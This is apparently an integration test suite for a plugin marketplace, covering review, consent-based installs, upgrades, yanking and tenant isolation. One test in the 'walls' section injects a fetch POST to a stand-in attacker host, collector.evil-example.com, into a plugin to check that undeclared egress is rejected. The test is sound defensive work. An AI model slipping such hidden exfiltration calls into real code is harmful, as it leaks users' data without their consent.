// Over 400 lines on purpose: one marketplace story (publish, review, install, upgrade, yank) on a shared developer, staff and workspaces.
import { env } from "cloudflare:test";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { outboxMailer } from "../src/mail/mailer.js";
import { getInstall } from "../src/plugins/installs.js";
import { invokePlugin } from "../src/plugins/invoke.js";
import { deliver, ev } from "./analytics-helpers.js";
import { call, ownerDb, type Session, sessionFrom, signup } from "./helpers.js";
import { developer, packed, staff } from "./marketplace-helpers.js";

// The marketplace (issue 19): a version travels from a developer's CLI through automated checks and
// staff review to workspaces, which install it with consent, upgrade (consent again when it asks for
// more), roll back, take patches by themselves, and stop running it when it is yanked. Around it, the
// walls: no version reused, nothing unpublished installable, no workspace sees another's private
// plugins, a developer sees counts and never a workspace's data, a report reads its own workspace only.

// Counts the events it is given in its own store.
const COUNTER = `
import { WorkerEntrypoint } from "cloudflare:workers";
export default class extends WorkerEntrypoint {
  async invoke(call) {
    if (call.kind !== "event") return { ok: false, error: { code: "not_handled", message: call.kind } };
    const seen = (await this.env.API.call("storage", "get", ["seen"])) ?? 0;
    await this.env.API.call("storage", "put", ["seen", seen + 1]);
    return { ok: true, value: seen + 1 };
  }
}`;

const manifest = (version: string, more: Record<string, unknown> = {}) => ({
  id: "acme-market/counter",
  name: "Event counter",
  version,
  engine: "^1.0.0",
  description: "Counts new leads",
  kinds: ["events"],
  permissions: ["events:subscribe", "storage"],
  subscriptions: ["lead.created"],
  ...more,
});

const db = ownerDb();
let dev: Awaited<ReturnType<typeof developer>>;
let operator: Session;
let tenantA: Session;
let tenantB: Session;

const grantOf = (m: { permissions: string[]; egress?: string[] }) => ({
  permissions: m.permissions,
  hosts: m.egress ?? [],
});

async function submit(pkg: unknown, headers = dev.cli, category = "notifications") {
  return call("/v1/developer/versions", { body: { package: pkg, category }, headers });
}
async function approve(version: string, plugin = "acme-market/counter") {
  return call(`/v1/operator/plugins/${plugin}/versions/${version}/approve`, {
    method: "POST",
    headers: operator.auth,
  });
}

beforeAll(async () => {
  dev = await developer(await signup("Dev Shop"));
  operator = await staff();
  tenantA = await signup("Tenant A");
  tenantB = await signup("Tenant B");
});
afterAll(async () => {
  await db.end();
});

describe("developers", () => {
  it("need a profile for tokens; a token publishes and reads status, and opens nothing else", async () => {
    const s = await signup("No Profile");
    const refused = await call("/v1/developer/tokens", { body: { name: "x" }, headers: s.auth });
    expect([refused.status, refused.json.error.message]).toEqual([
      403,
      expect.stringMatching(/profile first/),
    ]);
    // The token cannot manage the account, and is no key to any workspace.
    expect((await call("/v1/developer/tokens", { headers: dev.cli })).status).toBe(403);
    expect((await call("/v1/plugins/installs", { headers: dev.cli })).status).toBe(401);
    expect((await call("/v1/developer/plugins", { headers: dev.cli })).status).toBe(200);
    // A bad profile names its field.
    const bad = await call("/v1/developer/profile", {
      method: "PUT",
      body: { name: "X", supportEmail: "not an email" },
      headers: s.auth,
    });
    expect([bad.status, bad.json.error.details?.issues?.[0]?.field]).toEqual([400, "supportEmail"]);
    // Revoked tokens stop working.
    const extra = await call("/v1/developer/tokens", { body: { name: "old" }, headers: dev.session.auth });
    await call(`/v1/developer/tokens/${extra.json.id}`, { method: "DELETE", headers: dev.session.auth });
    const gone = await call("/v1/developer/plugins", {
      headers: { authorization: `Bearer ${extra.json.token}` },
    });
    expect(gone.status).toBe(401);
  });
});

describe("a version's way to workspaces", () => {
  it("is checked, reviewed by staff only, published, installed with consent, and runs", async () => {
    const first = await submit(await packed(manifest("1.0.0"), COUNTER, { changelog: "First release" }));
    expect(first.status, JSON.stringify(first.json)).toBe(201);
    expect(first.json.status).toBe("in_review");
    expect(first.json.checks.map((c: { id: string; ok: boolean }) => [c.id, c.ok])).toEqual([
      ["manifest", true],
      ["size", true],
      ["egress_declared", true],
      ["loads", true],
      ["tests", true],
      ["egress_runtime", true],
    ]);
    expect(first.json.risk).toBe("medium");
    // Not listed before approval; workspaces and developers cannot approve.
    expect(
      (await call("/v1/marketplace/plugins/acme-market/counter", { headers: tenantA.auth })).status,
    ).toBe(404);
    for (const who of [tenantA.auth, dev.session.auth, dev.cli]) {
      expect((await call("/v1/operator/reviews", { headers: who })).status).toBe(who === dev.cli ? 401 : 403);
      const tried = await call("/v1/operator/plugins/acme-market/counter/versions/1.0.0/approve", {
        method: "POST",
        headers: who,
      });
      expect(tried.status).toBeGreaterThanOrEqual(401);
      expect(tried.status).toBeLessThanOrEqual(403);
    }
    // Listed as staff but the address not yet verified: not staff (signing up with it is not enough).
    const pending = await call("/v1/auth/signup", {
      body: {
        email: "pending-staff@platform.test",
        password: "correct horse battery",
        name: "P",
        companyName: "P",
      },
    });
    const pendingAuth = sessionFrom(pending, "pending-staff@platform.test", "").auth;
    expect((await call("/v1/operator/reviews", { headers: pendingAuth })).status).toBe(403);
    expect((await call("/v1/me", { headers: pendingAuth })).json.platformOperator).toBe(false);
    expect((await call("/v1/me", { headers: operator.auth })).json.platformOperator).toBe(true);
    const queue = await call("/v1/operator/reviews", { headers: operator.auth });
    expect(queue.json.reviews).toContainEqual(
      expect.objectContaining({
        pluginId: "acme-market/counter",
        version: "1.0.0",
        developer: expect.objectContaining({ name: "Acme Plugins" }),
      }),
    );
    const approved = await approve("1.0.0");
    expect([approved.status, approved.json.status]).toEqual([200, "published"]);
  });

  it("refuses a reused version number, whatever happened to the first", async () => {
    const again = await submit(await packed(manifest("1.0.0"), `${COUNTER}\n// other code`));
    expect([again.status, again.json.error.code]).toEqual([409, "version_taken"]);
    // A real bundle (the SDK and zod inside) is hundreds of kilobytes: it is taken whole.
    const large = await submit(await packed(manifest("0.9.0"), `${COUNTER}\n/*${"x".repeat(600_000)}*/`));
    expect([large.status, large.json.bytes]).toEqual([201, expect.any(Number)]);
    expect(large.json.bytes).toBeGreaterThan(600_000);
    const other = await developer(await signup("Squatter"), "Squatter");
    const squat = await submit(await packed(manifest("9.0.0"), COUNTER), other.cli);
    expect([squat.status, squat.json.error.message]).toEqual([
      403,
      expect.stringMatching(/belongs to another developer/),
    ]);
  });

  it("is listed, searchable, and installs only with a grant of everything it asks for", async () => {
    const listed = await call("/v1/marketplace/plugins?q=counter", { headers: tenantA.auth });
    const entry = listed.json.plugins.find((p: { pluginId: string }) => p.pluginId === "acme-market/counter");
    expect(entry).toMatchObject({
      latestVersion: "1.0.0",
      publisher: { name: "Acme Plugins", verified: false },
    });
    expect(
      (await call("/v1/marketplace/plugins?category=channels", { headers: tenantA.auth })).json.plugins,
    ).not.toContainEqual(expect.objectContaining({ pluginId: "acme-market/counter" }));
    const page = await call("/v1/marketplace/plugins/acme-market/counter", { headers: tenantA.auth });
    expect(page.json).toMatchObject({
      readme: expect.stringContaining("# Event counter"),
      permissions: [
        { permission: "events:subscribe", text: expect.any(String) },
        { permission: "storage", text: expect.any(String) },
      ],
      versions: [{ version: "1.0.0", status: "published", changelog: "First release" }],
    });
    const partial = await call("/v1/marketplace/plugins/acme-market/counter/install", {
      body: { grant: { permissions: ["storage"], hosts: [] } },
      headers: tenantA.auth,
    });
    expect([partial.status, partial.json.error.message]).toEqual([
      400,
      expect.stringMatching(/^grant\.permissions/),
    ]);
    const installed = await call("/v1/marketplace/plugins/acme-market/counter/install", {
      body: { grant: grantOf(manifest("1.0.0")) },
      headers: tenantA.auth,
    });
    expect(installed.status, JSON.stringify(installed.json)).toBe(201);
    expect(installed.json).toMatchObject({ source: "marketplace", version: "1.0.0" });
    const install = await getInstall(db, tenantA.tenantId, installed.json.id);
    const out = await invokePlugin({ env, db, mailer: outboxMailer }, install, {
      kind: "event",
      event: { type: "lead.created" },
    });
    expect(out).toMatchObject({ ok: true, value: 1 });
    const counted = await call("/v1/marketplace/plugins/acme-market/counter", { headers: tenantB.auth });
    expect(counted.json.installs).toBe(1);
  });
});

describe("upgrades", () => {
  it("show the permission diff, need consent when a version asks for more, and roll back", async () => {
    const m2 = manifest("1.1.0", { permissions: ["events:subscribe", "storage", "contacts:read"] });
    const v2 = await submit(await packed(m2, COUNTER, { changelog: "Reads contacts" }));
    expect(v2.json.status).toBe("in_review");
    expect((await approve("1.1.0")).json.status).toBe("published");
    const [install] = (await call("/v1/plugins/installs", { headers: tenantA.auth })).json.installs;
    const preview = await call(`/v1/plugins/installs/${install.id}/upgrade`, { headers: tenantA.auth });
    expect(preview.json).toMatchObject({
      from: "1.0.0",
      to: "1.1.0",
      addedPermissions: ["contacts:read"],
      needsConsent: true,
      changelog: "Reads contacts",
    });
    // Never a silent escalation: without a grant it is refused and the old version keeps running.
    const silent = await call(`/v1/plugins/installs/${install.id}/upgrade`, {
      body: {},
      headers: tenantA.auth,
    });
    expect([silent.status, silent.json.error.code]).toEqual([409, "consent_required"]);
    expect((await getInstall(db, tenantA.tenantId, install.id)).version).toBe("1.0.0");
    const consented = await call(`/v1/plugins/installs/${install.id}/upgrade`, {
      body: { grant: grantOf(m2) },
      headers: tenantA.auth,
    });
    expect([consented.status, consented.json.version, consented.json.previousVersion]).toEqual([
      200,
      "1.1.0",
      "1.0.0",
    ]);
    const back = await call(`/v1/plugins/installs/${install.id}/rollback`, {
      method: "POST",
      headers: tenantA.auth,
    });
    expect([back.status, back.json.version]).toEqual([200, "1.0.0"]);
    expect(back.json.permissions.map((p: { permission: string }) => p.permission)).toEqual([
      "events:subscribe",
      "storage",
    ]);
    // Rolled back, it can take the newer version again (the consent given still has to be named).
    expect(
      (
        await call(`/v1/plugins/installs/${install.id}/upgrade`, {
          body: { grant: grantOf(m2) },
          headers: tenantA.auth,
        })
      ).status,
    ).toBe(200);
  });

  it("take a patch by themselves when asked to, never a minor or more permissions", async () => {
    const installed = await call("/v1/marketplace/plugins/acme-market/counter/install", {
      body: {
        version: "1.1.0",
        grant: grantOf(manifest("1.1.0", { permissions: ["events:subscribe", "storage", "contacts:read"] })),
        autoUpgrade: true,
      },
      headers: tenantB.auth,
    });
    expect(installed.status, JSON.stringify(installed.json)).toBe(201);
    const patch = manifest("1.1.1", { permissions: ["events:subscribe", "storage", "contacts:read"] });
    await submit(await packed(patch, COUNTER));
    await approve("1.1.1");
    expect((await getInstall(db, tenantB.tenantId, installed.json.id)).version).toBe("1.1.1");
    const minor = manifest("1.2.0", { permissions: ["events:subscribe", "storage", "contacts:read"] });
    await submit(await packed(minor, COUNTER));
    await approve("1.2.0");
    expect((await getInstall(db, tenantB.tenantId, installed.json.id)).version).toBe("1.1.1");
  });
});

describe("yanking", () => {
  it("pauses every install of the version, tells its admins, and a resume is refused", async () => {
    const [install] = (await call("/v1/plugins/installs", { headers: tenantB.auth })).json.installs;
    expect(install.version).toBe("1.1.1");
    const yanked = await call("/v1/developer/plugins/acme-market/counter/versions/1.1.1/yank", {
      body: { reason: "loses counts on retries" },
      headers: dev.session.auth,
    });
    expect([yanked.status, yanked.json.status, yanked.json.pausedInstalls]).toEqual([200, "yanked", 1]);
    const now = await getInstall(db, tenantB.tenantId, install.id);
    expect([now.status, now.pausedReason]).toEqual(["paused", expect.stringContaining("loses counts")]);
    const out = await invokePlugin({ env, db, mailer: outboxMailer }, now, {
      kind: "event",
      event: { type: "lead.created" },
    });
    expect(out).toMatchObject({ ok: false, code: "paused" });
    const resume = await call(`/v1/plugins/installs/${install.id}/resume`, {
      method: "POST",
      headers: tenantB.auth,
    });
    expect(resume.status).toBe(409);
    const told = await db.query<{ title: string }>(
      "select title from notifications where tenant_id = $1 and title like 'Plugin stopped%'",
      [tenantB.tenantId],
    );
    expect(told.length).toBeGreaterThan(0);
    // It cannot be installed any more; rolling back to it is refused; upgrading away runs again.
    const tenantC = await signup("Tenant C");
    const refused = await call("/v1/marketplace/plugins/acme-market/counter/install", {
      body: {
        version: "1.1.1",
        grant: grantOf(manifest("1.1.1", { permissions: ["events:subscribe", "storage", "contacts:read"] })),
      },
      headers: tenantC.auth,
    });
    expect([refused.status, refused.json.error.code]).toEqual([409, "not_installable"]);
    const away = await call(`/v1/plugins/installs/${install.id}/upgrade`, {
      body: { version: "1.2.0" },
      headers: tenantB.auth,
    });
    expect([away.status, away.json.status]).toEqual([200, "active"]);
    const rollback = await call(`/v1/plugins/installs/${install.id}/rollback`, {
      method: "POST",
      headers: tenantB.auth,
    });
    expect([rollback.status, rollback.json.error.code]).toEqual([409, "not_installable"]);
  });
});

describe("walls", () => {
  it("a rejected version cannot be installed, and automated checks reject undeclared egress", async () => {
    const sneaky = `${COUNTER.replace("return { ok: true, value: seen + 1 };", 'await fetch("https://collector.evil-example.com/x", { method: "POST", body: "{}" }); return { ok: true, value: seen + 1 };')}`;
    const auto = await submit(await packed(manifest("1.3.0"), sneaky));
    expect(auto.json.status).toBe("rejected");
    const failed = auto.json.checks.filter((c: { ok: boolean }) => !c.ok).map((c: { id: string }) => c.id);
    expect(failed).toEqual(expect.arrayContaining(["egress_declared", "egress_runtime"]));
    expect(auto.json.reason).toMatch(/collector\.evil-example\.com/);
    const v = await submit(await packed(manifest("1.4.0"), COUNTER));
    const rejected = await call("/v1/operator/plugins/acme-market/counter/versions/1.4.0/reject", {
      body: { reason: "README promises features it lacks" },
      headers: operator.auth,
    });
    expect([v.json.status, rejected.json.status, rejected.json.reason]).toEqual([
      "in_review",
      "rejected",
      "README promises features it lacks",
    ]);
    const tenantD = await signup("Tenant D");
    const install = await call("/v1/marketplace/plugins/acme-market/counter/install", {
      body: { version: "1.4.0", grant: grantOf(manifest("1.4.0")) },
      headers: tenantD.auth,
    });
    expect([install.status, install.json.error.code]).toEqual([409, "not_installable"]);
    // The developer reads the reason.
    const mine = await call("/v1/developer/plugins", { headers: dev.cli });
    const versions = mine.json.plugins[0].versions;
    expect(versions.find((x: { version: string }) => x.version === "1.4.0").reason).toBe(
      "README promises features it lacks",
    );
  });

  it("no workspace sees another's private plugins or installs", async () => {
    const secret = manifest("1.0.0", { id: "tenant-a/internal-tool", name: "Internal tool" });
    const own = await call("/v1/plugins/installs", {
      body: { package: await packed(secret, COUNTER), grant: grantOf(secret) },
      headers: tenantA.auth,
    });
    expect(own.status, JSON.stringify(own.json)).toBe(201);
    const searchB = await call("/v1/marketplace/plugins?q=internal", { headers: tenantB.auth });
    expect(searchB.json.plugins).toEqual([]);
    expect(
      (await call("/v1/marketplace/plugins/tenant-a/internal-tool", { headers: tenantB.auth })).status,
    ).toBe(404);
    expect(
      (await call("/v1/marketplace/plugins/tenant-a/internal-tool", { headers: tenantA.auth })).status,
    ).toBe(404);
    expect((await call(`/v1/plugins/installs/${own.json.id}`, { headers: tenantB.auth })).status).toBe(404);
    expect(
      (await call(`/v1/plugins/installs/${own.json.id}/upgrade`, { headers: tenantB.auth })).status,
    ).toBe(404);
    const listB = (await call("/v1/plugins/installs", { headers: tenantB.auth })).json.installs;
    expect(listB.map((i: { pluginId: string }) => i.pluginId)).not.toContain("tenant-a/internal-tool");
    // A private install is not upgraded from a listing, even by its own workspace.
    const fromListing = await call(`/v1/plugins/installs/${own.json.id}/upgrade`, { headers: tenantA.auth });
    expect([fromListing.status, fromListing.json.error.message]).toEqual([
      409,
      expect.stringMatching(/^source:/),
    ]);
  });

  it("a developer sees counts of failures and installs, never a workspace's data", async () => {
    // A failure in tenant A's install, with a message quoting that workspace's data.
    const [install] = (await call("/v1/plugins/installs", { headers: tenantA.auth })).json.installs.filter(
      (i: { source: string }) => i.source === "marketplace",
    );
    await db.query(
      `insert into plugin_calls (tenant_id, install_id, kind, name, ok, code, error, ms)
       values ($1, $2, 'event', 'lead.created', 0, 'plugin_error', 'failed for ada@secret-customer.test', 3)`,
      [tenantA.tenantId, install.id],
    );
    const mine = await call("/v1/developer/plugins", { headers: dev.cli });
    const text = JSON.stringify(mine.json);
    expect(mine.json.plugins[0].errors).toContainEqual(
      expect.objectContaining({ code: "plugin_error", failures: 1, installs: 1 }),
    );
    expect(mine.json.plugins[0].installs).toBe(2);
    for (const secret of ["secret-customer", tenantA.tenantId, tenantB.tenantId, install.id, "Tenant A"])
      expect(text).not.toContain(secret);
  });
});

describe("report plugins", () => {
  const REPORT = `
import { WorkerEntrypoint } from "cloudflare:workers";
export default class extends WorkerEntrypoint {
  async invoke(call) {
    if (call.kind !== "report") return { ok: false, error: { code: "not_handled", message: call.kind } };
    const answer = await this.env.API.call("analytics", "query", [{ metric: "lead.created", dimensions: ["period"], from: "2026-11-01", to: "2026-11-30", groupBy: "month" }]);
    return { ok: true, value: { rows: answer.rows, chart: { type: "bar", x: "period", y: ["value"] } } };
  }
}`;
  it("read the installing workspace's figures only", async () => {
    const m = {
      id: "acme-market/leads-by-month",
      name: "Leads by month",
      version: "1.0.0",
      engine: "^1.1.0",
      kinds: ["report"],
      permissions: ["analytics:read"],
      reports: [{ id: "leads", title: "Leads by month" }],
    };
    const v = await submit(
      await packed(m, REPORT, {
        checks: [
          { name: "answers", call: { kind: "report", id: "leads", parameters: {} }, expect: { ok: true } },
        ],
      }),
      dev.cli,
      "reports",
    );
    expect(v.json.status, JSON.stringify(v.json.checks)).toBe("in_review");
    expect((await approve("1.0.0", "acme-market/leads-by-month")).json.status).toBe("published");
    const lead = (t: string) =>
      ev(
        t,
        "lead.created",
        "2026-11-10T12:00:00Z",
        { source: "chat", routeId: null },
        { lead: crypto.randomUUID() },
      );
    await deliver([
      lead(tenantA.tenantId),
      lead(tenantA.tenantId),
      lead(tenantA.tenantId),
      lead(tenantB.tenantId),
    ]);
    const ids: Record<string, string> = {};
    for (const s of [tenantA, tenantB]) {
      const i = await call("/v1/marketplace/plugins/acme-market/leads-by-month/install", {
        body: { grant: { permissions: ["analytics:read"], hosts: [] } },
        headers: s.auth,
      });
      expect(i.status, JSON.stringify(i.json)).toBe(201);
      ids[s.tenantId] = i.json.id;
    }
    const run = (s: Session) =>
      call(`/v1/plugins/installs/${ids[s.tenantId]}/reports/leads`, {
        body: { parameters: {} },
        headers: s.auth,
      });
    expect((await run(tenantA)).json.rows).toEqual([{ period: "2026-11-01", value: 3 }]);
    expect((await run(tenantB)).json.rows).toEqual([{ period: "2026-11-01", value: 1 }]);
    // Called by the host directly (as Reports does through the API), the same install answers too.
    const bad = await invokePlugin(
      { env, db, mailer: outboxMailer },
      await getInstall(db, tenantA.tenantId, ids[tenantA.tenantId] as string),
      { kind: "report", id: "leads", parameters: {} },
    );
    expect(bad.ok).toBe(true);
  });
});
